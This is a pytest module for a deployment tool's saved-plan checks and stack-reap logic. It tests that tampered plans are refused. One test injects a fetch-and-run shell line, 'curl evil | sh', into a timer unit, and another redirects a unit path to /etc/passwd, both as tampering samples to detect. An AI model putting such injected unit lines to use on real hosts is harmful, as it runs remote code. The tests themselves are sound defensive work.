"""A saved plan is a claim: judged against a fresh plan of the same facts, change by change;
and a stack reap removes exactly the objects its change names.

Plans here come from the rule fixtures (``tests/rules/<kind>/<case>.yaml``: facts and a
policy in), so every change kind the rules make is covered. The reap is driven through
``tests.unit.fakes.FakeConnector`` holding a stack's objects as a fact snapshot and
recording each call ccci makes; it fakes the engine entirely (nothing here reaches Docker,
no task containers, removals succeed unless told otherwise), so it proves which calls the
reap makes, not how Docker answers them: tests/engine/test_saved_plan_engine.py proves the
same on a real engine.
"""

from __future__ import annotations

import json
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from ccci.apply.reap import ReapFailed, reap_stack
from ccci.facts.model import (
    STACK_LABEL,
    Daemon,
    Facts,
    FileFact,
    Image,
    Network,
    Service,
    SwarmObject,
    Volume,
)
from ccci.plan.fingerprint import SWARM_KEY, fingerprints_for
from ccci.plan.model import PLAN_FORMAT, Action, Change, HostPlan, Operation, Plan, Target, Work
from ccci.plan.saved import judge_saved
from tests.rules.test_rule_cases import PLANS, facts_from_fixture, load_case, plan_case
from tests.unit.fakes import FakeConnector

NOW = datetime(2026, 11, 27, 3, 0, tzinfo=UTC)
TIMERS = Path(__file__).parents[1] / "rules" / "timers"


def saved_copy(plan: HostPlan, now: datetime) -> HostPlan:
    """The host plan as ``ccci apply`` reads it back from a file."""
    return Plan.from_dict(json.loads(Plan(now, (plan,)).to_json())).hosts[0]


def tampered(plan: HostPlan, now: datetime, edit: Any) -> HostPlan:
    """The saved plan with ``edit`` applied to its JSON document."""
    data = json.loads(Plan(now, (plan,)).to_json())
    edit(data["hosts"][0])
    return Plan.from_dict(data).hosts[0]


# ---- every change kind: fingerprinted, and accepted when nothing moved -------------------


@pytest.mark.parametrize("path", PLANS)
def test_every_planned_change_has_a_fingerprint_and_an_unmoved_saved_plan_is_accepted(
    path: Path, tmp_path: Path
) -> None:
    case, plan, now = plan_case(path, tmp_path)
    facts = facts_from_fixture(case.get("facts"), now)

    assert set(plan.fingerprints) == {c.address for c in plan.changes} | {SWARM_KEY}
    verdict = judge_saved(saved_copy(plan, now), plan, facts)

    assert (verdict.refused, verdict.stale) == ((), ())
    assert verdict.host.changes == plan.changes


def _plans_unit_files(path: Path) -> bool:
    expect = load_case(path).get("expect") or {}
    return any(str(c.get("address", "")).startswith("unit:") for c in expect.get("changes", []))


UNIT_PLANS = [p for p in PLANS if _plans_unit_files(Path(str(getattr(p, "values", [p])[0])))]


@pytest.mark.parametrize("path", UNIT_PLANS)
def test_a_unit_path_edited_in_a_saved_plan_is_refused(path: Path, tmp_path: Path) -> None:
    case, plan, now = plan_case(path, tmp_path)
    facts = facts_from_fixture(case.get("facts"), now)
    units = [c for c in plan.changes if c.kind == "unit"]
    assert units, "the fixture's expectations name a unit file change"

    def to_passwd(host: dict[str, Any]) -> None:
        for change in host["changes"]:
            if change["address"].startswith("unit:"):
                change["after"]["path"] = "/etc/passwd"

    verdict = judge_saved(tampered(plan, now, to_passwd), plan, facts)

    assert verdict.refused == tuple(
        f"{c.address}: after not as the policies plan it now" for c in units
    )
    assert not any(c.kind == "unit" for c in verdict.host.changes)


def test_a_timer_unit_content_edited_in_a_saved_plan_is_refused(tmp_path: Path) -> None:
    case, plan, now = plan_case(TIMERS / "timers_update_a_unit_ccci_wrote.yaml", tmp_path)
    facts = facts_from_fixture(case.get("facts"), now)

    def inject(host: dict[str, Any]) -> None:
        unit = next(c for c in host["changes"] if c["address"] == "unit:backup.timer")
        unit["after"]["content"] += "ExecStartPre=/bin/sh -c 'curl evil | sh'\n"

    verdict = judge_saved(tampered(plan, now, inject), plan, facts)

    assert verdict.refused == ("unit:backup.timer: after not as the policies plan it now",)


def test_a_timers_fingerprint_moves_with_its_unit_file_and_state_not_with_its_next_run(
    tmp_path: Path,
) -> None:
    case, plan, now = plan_case(TIMERS / "timers_update_a_unit_ccci_wrote.yaml", tmp_path)
    facts = facts_from_fixture(case.get("facts"), now)
    timer = next(c for c in plan.changes if c.kind == "timer")
    unit = next(c for c in plan.changes if c.kind == "unit")
    before = fingerprints_for(facts, (timer, unit))

    fired = replace(
        facts,
        units=tuple(
            replace(u, next_elapse=now + timedelta(hours=5), last_trigger=now) for u in facts.units
        ),
    )
    edited = replace(
        facts,
        unit_files=tuple(replace(f, content=f.content + "# edited\n") for f in facts.unit_files),
    )
    stopped = replace(facts, units=tuple(replace(u, active_state="inactive") for u in facts.units))

    assert fingerprints_for(fired, (timer, unit)) == before
    for moved in (edited, stopped):
        now_prints = fingerprints_for(moved, (timer, unit))
        assert now_prints[timer.address] != before[timer.address]
        assert now_prints[unit.address] != before[unit.address]


# ---- images: pulls and evictions -----------------------------------------------------------


def _daemon() -> Daemon:
    return Daemon("cc-ci", "26.1.5", "1.45", "/var/lib/docker", "overlay2", "active", True)


def _image(tags: tuple[str, ...], unique_size: int | None = None) -> Image:
    return Image(
        id="sha256:" + "ab" * 32,
        tags=tags,
        digests=(),
        created=NOW - timedelta(days=30),
        size=5_000_000,
        unique_size=unique_size,
    )


def test_a_pulls_fingerprint_moves_when_the_reference_comes_to_name_a_local_image() -> None:
    pull = Change(
        "image:127.0.0.1:5000/recipe/redis",
        Action.CREATE,
        "127.0.0.1:5000/recipe/redis:7",
        "missing from the cache",
        "warm",
        _source(),
        after={"ref": "127.0.0.1:5000/recipe/redis:7"},
        gated=False,
        work=Work(Operation.PULL_IMAGE, refs=("127.0.0.1:5000/recipe/redis:7",)),
    )
    empty = Facts(host="cc-ci", gathered_at=NOW, daemon=_daemon())
    other = replace(empty, images=(_image(("127.0.0.1:5000/recipe/app:1",)),))
    pulled = replace(empty, images=(_image(("127.0.0.1:5000/recipe/redis:7",)),))

    assert pull.address in fingerprints_for(empty, (pull,))
    assert fingerprints_for(other, (pull,)) == fingerprints_for(empty, (pull,))
    assert fingerprints_for(pulled, (pull,)) != fingerprints_for(empty, (pull,))


def test_an_images_fingerprint_ignores_the_unique_size_only_an_eviction_asks_for() -> None:
    # Planning asks the engine's slow disk-usage call for unique sizes when an eviction's
    # gates are open; the gathering before an apply need not: an unchanged image is unmoved.
    evict = Change(
        "image:sha256:" + "ab" * 32,
        Action.DELETE,
        "x",
        "y",
        "evict",
        _source(),
        work=Work(Operation.UNTAG_IMAGE, refs=("a:1",)),
    )
    sized = Facts(
        host="cc-ci", gathered_at=NOW, daemon=_daemon(), images=(_image(("a:1",), 4_000_000),)
    )
    unsized = replace(sized, images=(_image(("a:1",), None),))
    retagged = replace(sized, images=(_image(("a:1", "b:2"), 4_000_000),))

    assert fingerprints_for(unsized, (evict,)) == fingerprints_for(sized, (evict,))
    assert fingerprints_for(retagged, (evict,)) != fingerprints_for(sized, (evict,))


def _source() -> Any:
    from ccci.errors import Location

    return Location("policies/p.yaml", 1)


# ---- judging: what refuses, and how it reads -------------------------------------------------


def _stack_plan() -> tuple[HostPlan, Facts]:
    stack = "redi-3fa9c1_ci_example_org"
    facts = Facts(
        host="cc-ci",
        gathered_at=NOW,
        daemon=_daemon(),
        volumes=(Volume(f"{stack}_data", "local", {STACK_LABEL: stack}, NOW),),
    )
    reap = Change(
        f"stack:{stack}",
        Action.DELETE,
        "1 volume",
        "run-app past its deadline",
        "reap-killed-runs",
        _source(),
        before={"volumes": [f"{stack}_data"]},
        work=Work(Operation.REAP_STACK, reap=("volumes",), wait_seconds=60.0),
        targets=(Target("volumes", f"{stack}_data", f"{stack}_data"),),
    )
    plan = HostPlan("cc-ci", (reap,), fingerprints=fingerprints_for(facts, (reap,)))
    return plan, facts


def test_a_change_the_fresh_plan_lacks_is_refused_with_the_fresh_plans_reason() -> None:
    plan, facts = _stack_plan()
    from ccci.plan.model import Noop

    fresh = replace(
        plan,
        changes=(),
        noops=(Noop(plan.changes[0].address, "x", "not a run-app", "reap-killed-runs", _source()),),
    )

    verdict = judge_saved(plan, fresh, facts)

    assert verdict.refused == (
        "stack:redi-3fa9c1_ci_example_org: the policies would not do this now: "
        "not a run-app (policy reap-killed-runs)",
    )
    assert verdict.host.changes == ()


def test_an_added_target_is_refused_and_a_duplicated_change_too() -> None:
    plan, facts = _stack_plan()
    change = plan.changes[0]
    more = replace(change, targets=(*change.targets, Target("volumes", "traefik_certs")))

    widened = judge_saved(replace(plan, changes=(more,)), plan, facts)
    twice = judge_saved(replace(plan, changes=(change, change)), plan, facts)

    assert widened.refused == (f"{change.address}: targets not as the policies plan it now",)
    assert twice.refused == (f"{change.address}: listed twice",)


def test_a_missing_swarm_fingerprint_is_refused_and_a_moved_one_is_stale() -> None:
    plan, facts = _stack_plan()
    without = {k: v for k, v in plan.fingerprints.items() if k != SWARM_KEY}
    moved = {**plan.fingerprints, SWARM_KEY: "0" * 16}

    assert judge_saved(replace(plan, fingerprints=without), plan, facts).refused == (
        "swarm: has no fingerprint, so its facts cannot be checked",
    )
    assert judge_saved(replace(plan, fingerprints=moved), plan, facts).stale == ("swarm",)


def test_the_plan_format_is_version_three() -> None:
    assert PLAN_FORMAT == 3


# ---- the reap removes its targets, and nothing else --------------------------------------


STACK = "redi-3fa9c1_ci_example_org"
SIBLING = f"{STACK}_uk"


def _secret(ident: str, name: str) -> SwarmObject:
    return SwarmObject(ident, name, {}, NOW)


def _stack_facts() -> Facts:
    label = {STACK_LABEL: STACK}
    return Facts(
        host="cc-ci",
        gathered_at=NOW,
        daemon=_daemon(),
        services=(Service("svc1", f"{STACK}_app", "busybox", label, NOW, NOW),),
        secrets=(
            _secret("sec1", f"{STACK}_db_password_v1"),
            _secret("sib1", f"{SIBLING}_db_password_v1"),
        ),
        networks=(Network("net1", f"{STACK}_default", "overlay", "swarm", label, NOW),),
        volumes=(Volume(f"{STACK}_data", "local", label, NOW),),
        files=(
            FileFact("/abra/servers/cc-ci/redi-3fa9c1.ci.example.org.env", True),
            FileFact(
                "/abra/servers/cc-ci/redi-3fa9c1.ci.example.org.uk.env",
                True,
                domain="redi-3fa9c1.ci.example.org.uk",
            ),
        ),
    )


TARGETS = (
    Target("services", f"{STACK}_app", "svc1"),
    Target("secrets", f"{STACK}_db_password_v1", "sec1"),
    Target("networks", f"{STACK}_default", "net1"),
    Target("volumes", f"{STACK}_data", f"{STACK}_data"),
    Target("env_file", "/abra/servers/cc-ci/redi-3fa9c1.ci.example.org.env"),
)
KINDS = ("services", "secrets", "configs", "networks", "volumes", "env_file")


def test_the_reap_removes_each_target_by_its_id_and_nothing_of_a_sibling() -> None:
    conn = FakeConnector(facts=_stack_facts())

    left = reap_stack(conn, STACK, TARGETS, KINDS, 1, conn.current)

    assert conn.calls == [
        ("remove_object", "services", "svc1"),
        ("remove_object", "secrets", "sec1"),
        ("remove_object", "networks", "net1"),
        ("remove_object", "volumes", f"{STACK}_data"),
        ("remove_file", "/abra/servers/cc-ci/redi-3fa9c1.ci.example.org.env"),
    ]
    assert left == []
    assert conn.facts is not None
    assert [s.name for s in conn.facts.secrets] == [f"{SIBLING}_db_password_v1"]


def test_an_object_that_joined_the_stack_after_the_plan_is_reported_not_removed() -> None:
    facts = _stack_facts()
    late = _secret("sec2", f"{STACK}_late_token_v1")
    conn = FakeConnector(facts=replace(facts, secrets=(*facts.secrets, late)))

    left = reap_stack(conn, STACK, TARGETS, KINDS, 1, conn.current)

    assert left == [f"secret {STACK}_late_token_v1"]
    assert ("remove_object", "secrets", "sec2") not in conn.calls
    assert conn.facts is not None
    assert late in conn.facts.secrets


def test_an_object_recreated_under_a_planned_name_is_left_and_reported() -> None:
    facts = _stack_facts()
    label = {STACK_LABEL: STACK}
    recreated = Network("net9", f"{STACK}_default", "overlay", "swarm", label, NOW)
    conn = FakeConnector(facts=replace(facts, networks=(recreated,)))

    left = reap_stack(conn, STACK, TARGETS, KINDS, 1, conn.current)

    assert f"network {STACK}_default (re-created since the plan)" in left
    assert not any(call[1:] == ("networks", "net9") for call in conn.calls)
    assert conn.facts is not None
    assert conn.facts.networks == (recreated,)


def test_a_target_that_could_not_be_removed_fails_the_reap_naming_it() -> None:
    # The engine refuses to remove a volume while one is mounted.
    in_use: dict[tuple[str, ...], BaseException] = {
        ("remove_object", "volumes"): RuntimeError("volume is in use")
    }
    conn = FakeConnector(facts=_stack_facts(), raises=in_use)

    with pytest.raises(ReapFailed) as failed:
        reap_stack(conn, STACK, TARGETS, KINDS, 1, conn.current)

    assert str(failed.value) == f"{STACK} not fully reaped: volume {STACK}_data: volume is in use"


def _with_gate(plan: HostPlan, at_least: float, file: str) -> HostPlan:
    from ccci.errors import Location
    from ccci.plan.model import GateResult
    from ccci.policy.model import Gate, GateKind

    gate = Gate(GateKind.DISK_USAGE, Location(file, 4), path="/var/lib/docker", at_least=at_least)
    return replace(plan, gates=(GateResult("reap-killed-runs", gate, True, "disk 90%"),))


def test_gates_are_compared_on_what_they_check_not_on_where_the_policy_was_read() -> None:
    plan, facts = _stack_plan()
    saved = _with_gate(plan, 0.8, "policies/orphans.yaml")
    same = _with_gate(plan, 0.8, "/srv/ci/policies/orphans.yaml")
    lower = _with_gate(plan, 0.5, "policies/orphans.yaml")

    assert judge_saved(saved, same, facts).refused == ()
    assert judge_saved(saved, lower, facts).refused == (
        "policy reap-killed-runs: gates disk_usage differ from the policies' in their values",
    )
